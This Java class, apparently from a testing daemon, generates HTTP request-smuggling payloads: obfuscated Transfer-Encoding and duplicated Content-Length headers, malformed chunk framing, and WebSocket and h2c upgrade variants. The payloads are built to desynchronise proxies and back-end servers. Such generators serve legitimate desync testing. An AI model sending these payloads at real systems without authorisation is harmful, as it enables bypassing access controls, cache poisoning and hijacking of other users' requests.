package io.zenko.dmd.daemon;

import java.util.ArrayList;
import java.util.List;

/**
 * Bytes in which one reader finds one request and another two: the forms that are known to have
 * worked between some proxy and some server.
 */
final class SmugglingForms {
  private static final String CHUNKED = "Transfer-Encoding: chunked\r\n";

  /** Headers of which some readers take one for that of a body in chunks. */
  private static final List<String> ENCODINGS =
      List.of(
          CHUNKED,
          "Transfer-Encoding : chunked\r\n",
          "Transfer-Encoding:\tchunked\r\n",
          "Transfer-Encoding:\u000bchunked\r\n",
          "Transfer-Encoding: \"chunked\"\r\n",
          "Transfer-Encoding: xchunked\r\n",
          "Transfer-Encoding: chunked, identity\r\n",
          "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n",
          "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n",
          "Transfer-Encoding:\r\n chunked\r\n",
          " Transfer-Encoding: chunked\r\n",
          "X: y\r\n Transfer-Encoding: chunked\r\n",
          "X: y\nTransfer-Encoding: chunked\r\n",
          "X: y\rTransfer-Encoding: chunked\r\n",
          "Transfer_Encoding: chunked\r\n",
          "Transfer-Encoding\u0000: chunked\r\n");

  /** Headers of which some readers take another for the length. */
  private static final List<String> LENGTHS =
      List.of(
          "Content-Length: 0\r\nContent-Length: %s\r\n",
          "Content-Length: %s\r\nContent-Length: 0\r\n",
          "Content-Length: 0, %s\r\n",
          "Content-Length: %s, 0\r\n",
          "Content-Length: +%s\r\n",
          "Content-Length: -%s\r\n",
          "Content-Length : %s\r\n",
          "Content_Length: %s\r\n",
          "Content-Length:\r\n %s\r\n",
          "Content-Length: 0x%s\r\n",
          "Content-Length: %s \u0000\r\n",
          "X: y\nContent-Length: %s\r\n");

  private SmugglingForms() {}

  /**
   * All of them.
   *
   * @param line the first line of a request that has a body, and a host
   * @param inner a request that nobody may take for one
   */
  static List<String> of(String line, String inner) {
    List<String> forms = new ArrayList<>();
    int length = inner.length();
    for (String encoding : ENCODINGS) {
      // By its length a body, by its chunks a body of nothing and a request behind it; and the
      // other way round.
      String empty = "0\r\n\r\n" + inner;
      forms.add(line + "Content-Length: " + empty.length() + "\r\n" + encoding + "\r\n" + empty);
      forms.add(line + encoding + "Content-Length: " + empty.length() + "\r\n\r\n" + empty);
      String size = Integer.toHexString(length) + "\r\n";
      forms.add(
          line
              + ("Content-Length: " + size.length() + "\r\n" + encoding + "\r\n")
              + (size + inner + "\r\n0\r\n\r\n"));
    }
    for (String header : LENGTHS) {
      forms.add(line + header.replace("%s", Integer.toString(length)) + "\r\n" + inner);
    }
    String size = Integer.toHexString(length);
    for (String body :
        List.of(
            size + "\n" + inner + "\r\n0\r\n\r\n",
            "0x" + size + "\r\n" + inner + "\r\n0\r\n\r\n",
            "1" + "0".repeat(15) + size + "\r\n" + inner + "\r\n0\r\n\r\n",
            size + ";a=\"\r\n" + inner + "\r\n0\r\n\r\n",
            "1;\n" + "x\r\n0\r\n\r\n" + inner,
            "0\r\nX: y\r\n" + inner,
            "0\r\nContent-Length: 0\r\n\r\n" + inner,
            "0\n\n" + inner,
            "0 \r\n\r\n" + inner,
            "\r\n0\r\n\r\n" + inner)) {
      forms.add(line + CHUNKED + "\r\n" + body);
    }
    forms.add(line.replace("HTTP/1.1", "HTTP/1.0") + CHUNKED + "\r\n0\r\n\r\n" + inner);
    forms.add(line + "Connection: close\r\nContent-Length: 0\r\n\r\n" + inner);
    forms.add(line + "Connection: Transfer-Encoding\r\n" + CHUNKED + "\r\n0\r\n\r\n" + inner);
    forms.add(line + "Expect: 100-continue\r\nContent-Length: " + length + "\r\n\r\n" + inner);
    forms.add(line + "Expect: x\r\nContent-Length: " + length + "\r\n\r\n" + inner);
    // Refused at once, long before so many bytes are there.
    forms.add(line + "Content-Length: 999999999999\r\n\r\n" + inner);
    // Proxies that let WebSockets pass let these pass, too, and take the inner one for their body.
    for (String body :
        List.of(
            inner,
            "Content-Length: " + length + "\r\n\r\n" + inner,
            CHUNKED + "\r\n" + size + "\r\n" + inner + "\r\n0\r\n\r\n")) {
      String end = body.equals(inner) ? "\r\n" : "";
      forms.add(upgrade(line, "websocket", "Sec-WebSocket-Version: 777\r\n") + end + body);
      forms.add(upgrade(line, "h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n") + end + body);
    }
    return forms;
  }

  private static String upgrade(String line, String protocol, String header) {
    return line + "Connection: Upgrade\r\nUpgrade: " + protocol + "\r\n" + header;
  }
}
